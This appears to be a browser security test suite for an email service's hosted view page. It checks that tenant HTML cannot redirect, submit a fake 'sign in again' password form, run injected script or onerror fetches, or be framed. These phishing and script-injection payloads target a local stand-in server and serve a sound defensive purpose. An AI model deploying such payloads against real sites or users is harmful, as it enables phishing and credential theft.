import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, startTestApp, type TestApp } from './support/app.js';
import { chromiumInstalled, launchBrowser } from './support/browser.js';

const available = chromiumInstalled();
// CI installs Chromium (.ci/run); elsewhere the suite says in its name that it did not run
if (!available && process.env.CI) throw new Error('Chromium is missing: .ci/run installs it (apt-get install chromium)');

/**
 * The view-in-browser page serves a tenant's HTML on our origin. In a real browser it must not redirect,
 * submit a form, run script or be framed: a phishing page on our name is exactly what an attacker would send.
 */
describe.skipIf(!available)(`hosted view page in a real browser${available ? '' : ' (skipped: no Chromium at /usr/bin/chromium; CI always runs it)'}`, () => {
  let t: TestApp;
  let browser: Browser;
  let elsewhere: http.Server;
  let elsewhereUrl: string;
  const hits: string[] = [];

  beforeAll(async () => {
    elsewhere = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      if (req.url === '/framer') {
        res.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe id="f" src="${(req.headers['x-target'] as string | undefined) ?? ''}"></iframe>`);
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>elsewhere</h1>');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    t = await startTestApp({ backend: 'pglite' });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
    await new Promise((resolve) => elsewhere?.close(resolve));
  });

  async function viewUrlOf(html: string): Promise<string> {
    const ws = await t.workspace();
    const res = await call(`${t.url}/api/v1/send-email/instant`, { key: ws.key, body: { to: 'reader@example.com', subject: 'Your account', html } });
    expect(res.status).toBe(200);
    return `${t.url}/v/${t.app.services.tokens.sign('view', res.body.id as string)}`;
  }

  it('does not follow a refresh redirect, submit a form or run script', async () => {
    const html =
      `<meta http-equiv="refresh" content="0;url=${elsewhereUrl}/meta-refresh">` +
      `<META HTTP-EQUIV='Refresh' CONTENT='0; URL=${elsewhereUrl}/meta-refresh-2'>` +
      `<h1 id="title">Please sign in again</h1>` +
      `<form action="${elsewhereUrl}/phish" method="post"><input name="password" value="hunter2"><button id="go" type="submit">Sign in</button></form>` +
      `<script>fetch('${elsewhereUrl}/script')</script><img src="${elsewhereUrl}/missing.png" onerror="fetch('${elsewhereUrl}/onerror')">`;
    const url = await viewUrlOf(html);
    const page = await browser.newPage();
    const response = await page.goto(url);
    expect(response?.status()).toBe(200);
    expect(await page.textContent('#title', { timeout: 5000 })).toBe('Please sign in again');
    await page.waitForTimeout(1500);
    await page.click('#go', { timeout: 2000 }).catch(() => undefined);
    await page.waitForTimeout(1000);
    expect(page.url()).toBe(url);
    expect(hits.filter((h) => !h.startsWith('GET /missing.png'))).toEqual([]);
    await page.close();
  });

  it('cannot be framed by another site', async () => {
    const url = await viewUrlOf('<h1 id="title">Framed?</h1>');
    const page = await browser.newPage();
    await page.setExtraHTTPHeaders({ 'x-target': url });
    await page.goto(`${elsewhereUrl}/framer`);
    await page.waitForTimeout(1000);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    const framedTitle = await frame?.textContent('#title', { timeout: 500 }).catch(() => null);
    expect(framedTitle ?? null).toBeNull();
    await page.close();
  });
});
